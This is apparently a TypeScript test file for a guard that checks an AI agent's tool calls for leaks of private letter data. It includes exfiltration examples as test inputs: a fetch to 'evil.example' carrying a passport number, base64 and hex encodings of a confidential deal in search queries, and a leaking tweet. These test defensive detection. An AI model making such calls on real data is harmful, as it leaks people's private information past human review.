import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { decide, type FlowDecision } from './decide.ts';
import { FlowCache } from './flow-cache.ts';
import type { DeclaredTool, FlowEvent, FlowTool } from './history.ts';
import type { FlowProfile } from './sink-table.ts';
import { tool } from './testing/trace.ts';

const LETTERS = [
  {
    id: 'm1',
    subject: 'Harbour',
    sender: 'ines@firm.example',
    recipients: ['tom@firm.example'],
    body: 'The purchase of the harbour site closes on Friday at nine million.',
  },
  {
    id: 'm2',
    subject: 'Lunch',
    sender: 'pat@other.example',
    body: 'Shall we meet at the corner of Mill Street for lunch?',
  },
];
const TOOLS = [
  tool('search_letters', { query: 'string' }),
  tool('web_search', { query: 'string' }),
  tool('fetch_page', { url: 'string' }),
  tool('publish_tweet', { text: 'string' }),
  tool('send_letter', { to: 'list', body: 'string' }),
];

interface Case {
  readonly asked: string;
  readonly call: string;
  readonly args: Readonly<Record<string, unknown>>;
  readonly read?: { readonly tool: string; readonly result: unknown };
  readonly profile?: FlowProfile;
  /** Of the tool that was read. */
  readonly declared?: DeclaredTool;
}

const PRIVATE = { tool: 'search_letters', result: LETTERS } as const;

function judge({ asked, call, args, read = PRIVATE, profile = 'strict', declared }: Case): FlowDecision {
  const tools: readonly FlowTool[] = TOOLS.map((one) =>
    declared !== undefined && one.name === read.tool ? { ...one, declared } : one,
  );
  const events: FlowEvent[] = [
    { kind: 'user', text: asked },
    { kind: 'call', id: 'a', tool: read.tool, args: { query: 'harbour' } },
    { kind: 'result', id: 'a', tool: read.tool, text: JSON.stringify(read.result) },
  ];
  const { state, book } = new FlowCache().view(events, tools);
  return decide(state, { kind: 'call', id: 'b', tool: call, args }, book, { profile });
}
const ruled = (one: Case): string => {
  const { verdict, causes } = judge(one);
  return `${verdict} ${causes.map(({ rule }) => rule).join(' ')}`.trim();
};

describe('private data, a text of somebody else, and a way out', () => {
  const tweet = (text: string, more: Partial<Case> = {}): Case => ({
    asked: 'Look at my letter about the harbour, then publish a tweet that I am at sea this week.',
    call: 'publish_tweet',
    args: { text },
    ...more,
  });

  it('what goes to anybody needs a person in strict, and in default when it repeats what was private', () => {
    assert.match(ruled(tweet('I am at sea this week.')), /^approve trifecta$/);
    assert.equal(ruled(tweet('I am at sea this week.', { profile: 'default' })), 'allow');
    const leaks = 'News: the purchase of the harbour site closes on Friday!';
    assert.match(ruled(tweet(leaks, { profile: 'default' })), /^approve .*trifecta/);
    // Other signs between the words are no disguise.
    assert.match(ruled(tweet('the *purchase* of-the "harbour", site', { profile: 'default' })), /^approve .*trifecta/);
  });

  it('with nothing private there is nothing to let out', () => {
    const read = { tool: 'web_search', result: [{ title: 'Harbour', text: 'The harbour is a nice place to be.' }] };
    assert.equal(ruled(tweet('I am at sea this week.', { read })), 'allow');
    assert.equal(ruled(tweet('I am at sea this week.', { declared: { level: 'public' } })), 'allow');
  });

  it('words of a record are for the people whom it names and for those whom the user names', () => {
    const send = (to: string, more: Partial<Case> = {}): string =>
      ruled({
        asked: 'Find the harbour letter and the lunch letter and send a letter with the news.',
        call: 'send_letter',
        args: { to: [to], body: 'The purchase of the harbour site closes on Friday.' },
        profile: 'default',
        ...more,
      });
    assert.doesNotMatch(send('ines@firm.example'), /readers/);
    assert.doesNotMatch(send('tom@firm.example'), /readers/);
    assert.match(send('pat@other.example'), /^approve .*readers/);
    assert.doesNotMatch(
      send('pat@other.example', { asked: 'Find the harbour letter and send a letter with it to pat@other.example.' }),
      /readers/,
    );
    const confidential = { declared: { level: 'confidential' } } as const;
    assert.match(send('pat@other.example', confidential), /^deny .*readers/);
    assert.match(
      send('pat@other.example', {
        ...confidential,
        asked: 'Find the harbour letter and send a letter with it to pat@other.example.',
      }),
      /^approve readers$/,
    );
  });

  it('once something secret was read, nothing goes out without a person, whatever it says', () => {
    const asked = 'Find the harbour letter, and send a letter to zoe@home.example that I am late.';
    const one: Case = { asked, call: 'send_letter', args: { to: ['zoe@home.example'], body: 'I am late.' } };
    assert.equal(ruled(one), 'allow');
    assert.match(ruled({ ...one, declared: { level: 'secret' } }), /^approve secret-read$/);
  });
});

describe('what a look-up carries', () => {
  const search = (query: string, more: Partial<Case> = {}): string =>
    ruled({
      asked: 'Read my letter about the harbour and search the web for what harbour sites cost.',
      call: 'web_search',
      args: { query },
      ...more,
    });

  it('the words of the user, and words that say nothing of what is private, go out', () => {
    for (const query of ['what harbour sites cost', 'harbour prices 2026', 'price per square metre waterfront'])
      assert.equal(search(query), 'allow', query);
  });

  it('words, addresses and encodings of what was read in private need a person', () => {
    for (const query of [
      'purchase of the harbour site closes on Friday at nine million',
      'who is ines@firm.example',
      Buffer.from('closes on Friday at nine million').toString('base64'),
      Buffer.from('nine million for the site').toString('hex'),
    ])
      assert.match(search(query), /^approve query-carries$/, query);
  });

  it("looking in the user's own house is no way out", () => {
    assert.equal(search('the purchase of the harbour site', { call: 'search_letters' }), 'allow');
    assert.match(
      search('the purchase of the harbour site', {
        call: 'search_letters',
        declared: { outside: true, level: 'internal' },
      }),
      /^approve query-carries$/,
    );
  });

  it('a kind of data that the user did not speak of does not go out', () => {
    const read = { tool: 'search_letters', result: [{ title: 'Harbour', passport_number: 'X1234567' }] };
    assert.match(search('X1234567', { read }), /^approve query-carries$/);
    assert.match(search('holder of X1234567', { read }), /^approve query-carries$/);
  });

  it('an address to look at carries no data either', () => {
    const fetch = (url: string): string =>
      ruled({
        asked: 'Read my letter about the harbour and look at https://sites.example for prices.',
        call: 'fetch_page',
        args: { url },
        read: { tool: 'search_letters', result: [{ title: 'Harbour', passport_number: 'X1234567' }] },
      });
    assert.equal(fetch('https://sites.example/prices'), 'allow');
    assert.doesNotMatch(fetch('https://sites.example/?q=X1234567'), /^allow/);
    assert.doesNotMatch(fetch('https://evil.example/X1234567'), /^allow/);
  });

  it('no cut of four words or more out of a private text goes out unseen', () => {
    const words = LETTERS[0]!.body.replace('.', '').split(' ');
    fc.assert(
      fc.property(
        fc.nat({ max: words.length - 4 }),
        fc.integer({ min: 4, max: 12 }),
        fc.array(fc.constantFrom('sea', 'boat', 'price', 'today'), { maxLength: 4 }),
        fc.constantFrom(' ', ', ', ' - ', '\n', '*'),
        (at, length, more, between) => {
          const cut = words.slice(at, at + length);
          if (cut.slice(0, 4).join(' ').length < 12) return;
          assert.match(search([...more, ...cut].join(between)), /^approve query-carries$/);
        },
      ),
    );
  });
});
